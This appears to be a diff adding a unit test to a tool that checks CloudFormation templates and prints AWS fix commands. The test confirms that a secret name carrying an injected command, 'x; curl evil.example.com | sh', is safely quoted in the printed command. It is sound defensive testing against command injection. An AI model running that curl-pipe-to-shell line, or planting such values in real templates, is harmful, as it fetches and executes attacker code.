@@ -56,3 +56,11 @@ test('what the stack owns already isn’t asked for', async () => {
   const deployed = { Trail: 'arn', Logs: 'group', Secret: 'arn' };
   expect(await findingsOf(existingNames, { Resources }, {}, { deployed })).toEqual([]);
 });
+
+test('a name from a template can’t add a command to the one that is printed', async () => {
+  const Properties = { Name: "x; curl evil.example.com | sh #'" };
+  const answers = { DescribeSecretCommand: { ...META, Name: 'x' } satisfies DescribeSecretCommandOutput };
+  const body = { Resources: { Secret: { Type: 'AWS::SecretsManager::Secret', Properties } } };
+  const [finding] = await findingsOf(existingNames, body, answers);
+  expect(finding?.fix).toMatch(/ --secret-id 'x; curl evil\.example\.com \| sh #'\\'''$/);
+});
